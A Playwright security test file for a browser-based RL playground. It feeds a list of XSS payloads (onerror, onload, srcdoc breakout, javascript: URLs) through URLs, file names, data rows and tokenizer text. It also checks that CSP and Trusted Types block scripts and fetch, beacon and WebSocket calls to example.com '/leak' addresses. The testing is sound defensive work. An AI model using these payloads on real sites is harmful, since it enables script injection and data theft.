/** The page's policy: strangers' text stays text, and markup that got in would do nothing. That no server is asked but the page's own: learning.spec.ts. */
import type { Page } from '@playwright/test';
import { fetchedAnswer } from '@rl-playground/base/testing/fetchedAnswer';
import { starterFiles, zipped } from './checkpoint.ts';
import { expect, test } from './fixtures.ts';
import {
  choose,
  chooseSettings,
  drop,
  goTo,
  notice,
  openFold,
  openNotices,
  reachLoaded,
  reachStep,
  snapshotOf,
} from './page.ts';

const SMALL = { problemsPerStep: 2, rolloutsPerProblem: 2, evalSamples: 2, numSteps: 1, maxTokens: 8 };

/** Ways in which markup runs a program, each telling its number. */
const injections: readonly ((n: number) => string)[] = [
  (n) => `<img src=x onerror=injected(${n})>`,
  (n) => `<script>injected(${n})</script>`,
  (n) => `<svg onload=injected(${n})></svg>`,
  (n) => `"><iframe srcdoc="<script>parent.injected(${n})</script>">`,
  (n) => `<details open ontoggle=injected(${n})>`,
  (n) => `javascript:injected(${n})`,
  (n) => `<svg><animate onbegin=injected(${n}) attributeName=x dur=1s>`,
];

/** The object `trustedTypes` of browsers with Trusted Types. */
interface Policies {
  createPolicy(name: string, rules: object): unknown;
}

const text = (value: unknown): Uint8Array => new TextEncoder().encode(JSON.stringify(value));

/**
 * Starts to listen for injections that run. The returned function gives their numbers; it first lets the page send a word of its own, so
 * that none before it is missed.
 */
async function watchInjections(page: Page): Promise<() => Promise<readonly number[]>> {
  const ran: number[] = [];
  await page.exposeFunction('injected', (n: number) => void ran.push(n));
  return async () => {
    await page.evaluate(() => (Reflect.get(window, 'injected') as (n: number) => Promise<void>)(-1));
    return ran.filter((n) => n !== -1);
  };
}

test('24 injections stay text', async ({ page, openPage }, testInfo) => {
  const ran = await watchInjections(page);
  let made = 0;
  const next = (): string => {
    const kind = injections[made % injections.length];
    return kind?.(made++) ?? '';
  };

  // The address: settings, names of settings, the fragment.
  await openPage({ ...SMALL, task: next(), model: next(), lossType: next(), [next()]: 1 });
  await expect(notice(page, 'settings that can’t be used')).toContainText('injected(0)');
  const ofClass = ['lock', 'hide', 'lesson'].map(
    (key, n) => `${key}=${encodeURIComponent(injections[n]?.(200 + n) ?? '')}`,
  );
  const own = encodeURIComponent(injections[3]?.(203) ?? '');
  await page.goto(
    `./?backend=wasm&task=reverse_digits&${ofClass.join('&')}#${encodeURIComponent(next())}&own=${own}`,
  );
  await reachLoaded(page);
  await openNotices(page);
  for (const n of [200, 201, 202]) await expect(page.getByTestId('notices')).toContainText(`injected(${n})`);
  await expect(notice(page, 'A task of this link was not added')).toBeVisible();

  // The injections are names of files, columns and settings, and are quoted in messages.
  const bad = zipped(`${next()}.zip`.replaceAll('/', '∕'), new Map([['config.json', text({})]]));
  await choose(page, bad);
  await expect(notice(page, 'was not loaded').first()).toContainText('injected(5)');
  await chooseSettings(
    page,
    `${next()}.json`.replaceAll('/', '∕'),
    JSON.stringify({ [next()]: next(), learning_rate: next() }),
  );
  await expect(page.getByText('injected(6)').first()).toBeVisible();
  await choose(page, { name: 'picture.svg.zip', bytes: new TextEncoder().encode(next()) });
  await expect(notice(page, 'picture.svg.zip').first()).toBeVisible();

  // Rows and the name of the user's task.
  await openFold(page, 'Your own task');
  await page.getByTestId('own-new').click();
  const rows = Array.from({ length: 20 }, (_, i) => ({
    [`question`]: injections[i % 7]?.(made) ?? '',
    answer: `${i}`,
  }));
  made++;
  await page.getByTestId('own-file').setInputFiles({
    name: `${next().replaceAll('/', '∕')}.jsonl`,
    mimeType: 'text/plain',
    buffer: Buffer.from(rows.map((row) => JSON.stringify({ ...row, note: '<b>' })).join('\n')),
  });
  await expect(page.getByTestId('own-read')).toContainText('20 rows');
  await expect(page.getByText('injected(11)').first()).toBeVisible();
  await page.getByTestId('own-name').fill(next());
  await page.getByLabel('Completion', { exact: true }).fill(next());
  await page.getByRole('button', { name: 'Cancel' }).last().click();

  // Names that no server is asked for.
  await goTo(page, 'train');
  await page.getByTestId('model-picker-button').click();
  for (const name of [next(), next(), next()]) {
    await page.getByTestId('model-name').fill(name);
    await page.getByTestId('model-look-up').click();
    await expect(page.getByTestId('model-failed')).toContainText('names no model');
  }
  await page.keyboard.press('Escape');

  // The answers of a model: its word for "[ANSWER] " is markup.
  const files = starterFiles();
  const tokenizer = new TextDecoder().decode(files.get('tokenizer.json'));
  const word = `${next()}${next()}`;
  files.set(
    'tokenizer.json',
    new TextEncoder().encode(tokenizer.replace('"[ANSWER] "', JSON.stringify(word))),
  );
  await drop(page, zipped('writer.zip', files), testInfo);
  await expect.poll(async () => (await snapshotOf(page)).modelName).toContain('writer');
  await page.getByTestId('train-button').click();
  await reachStep(page, 1);
  await expect(page.getByText(word).first()).toBeVisible();

  expect(made).toBeGreaterThanOrEqual(20);
  expect(await ran()).toEqual([]);
});

test.describe('markup that got into the page', () => {
  test.use({ expectedErrors: /Content Security Policy|violates|Trusted|404/, expectedViolations: true });

  test('by the page’s scripts is refused, and nothing is sent away', async ({ page, context, openPage }) => {
    const ran = await watchInjections(page);
    const asked: string[] = [];
    await context.route('https://example.com/**', (route) => {
      asked.push(route.request().url());
      return route.fulfill({ contentType: 'text/javascript', body: 'injected(104)' });
    });
    await openPage(SMALL);
    const refused = await page.evaluate(
      async (markup) => {
        const host = document.createElement('div');
        document.body.append(host);
        const script = document.createElement('script');
        const tries: Record<string, () => unknown> = {
          ...Object.fromEntries(markup.map((text, n) => [`markup ${n}`, () => (host.innerHTML = text)])),
          parser: () => new DOMParser().parseFromString('<p></p>', 'text/html'),
          script: () => (script.text = 'injected(100)'),
          address: () => (script.src = 'https://example.com/injected.js'),
          worker: () => new Worker('https://example.com/injected.js'),
          policy: () => (Reflect.get(window, 'trustedTypes') as Policies).createPolicy('another', {}),
          fetch: () => fetch('https://example.com/leak'),
          beacon: () => {
            if (navigator.sendBeacon('https://example.com/leak', 'leak')) return;
            throw new Error('refused');
          },
          socket: () =>
            new Promise((resolve, reject) => {
              const socket = new WebSocket('wss://example.com/');
              socket.onopen = resolve;
              socket.onerror = reject;
            }),
          // Behind a wait: what a driver of browsers asks itself is excepted.
          eval: () => (Reflect.get(window, 'eval') as (program: string) => unknown)('injected(103)'),
        };
        const outcome: string[] = [];
        for (const [name, attempt] of Object.entries(tries))
          try {
            await attempt();
          } catch {
            outcome.push(name);
          }
        document.head.append(script);
        const picture = new Image();
        picture.src = 'https://example.com/leak.png';
        return outcome;
      },
      injections.map((kind, n) => kind(n)),
    );
    // The sixth is an address, and no markup.
    const markup = [0, 1, 2, 3, 4, 6].map((n) => `markup ${n}`);
    const all = ['parser', 'script', 'address', 'worker', 'policy', 'fetch', 'socket', 'eval'];
    expect(refused).toEqual(expect.arrayContaining([...markup, ...all]));
    expect(await ran()).toEqual([]);
    expect(asked).toEqual([]);
  });

  test('before any script of it runs no program', async ({ page, context, openPage }) => {
    const ran = await watchInjections(page);
    // Asked for by a browser that reads ahead, before there is a policy, and not run.
    await context.route('https://example.com/**', (route) =>
      route.fulfill({ contentType: 'text/javascript', body: 'injected(104)' }),
    );
    const markup = [
      ...injections.map((kind, n) => kind(n)),
      '<img src="data:," onerror="injected(101)">',
      '<a id="link" href="javascript:injected(102)">link</a>',
      '<script src="https://example.com/injected.js"></script>',
    ];
    // Past Trusted Types: what a server or a proxy put into the page itself.
    await page.route(/\/\?/, async (route) => {
      const response = await fetchedAnswer(route);
      const text = await response.text();
      await route.fulfill({
        response,
        body: text.replace('</body>', () => `${markup.join('</iframe>')}</body>`),
      });
    });
    await openPage(SMALL);
    await page.evaluate(() => document.querySelector<HTMLAnchorElement>('#link')?.click());
    await expect(page.locator('svg animate')).toBeAttached();
    expect(await ran()).toEqual([]);
  });
});
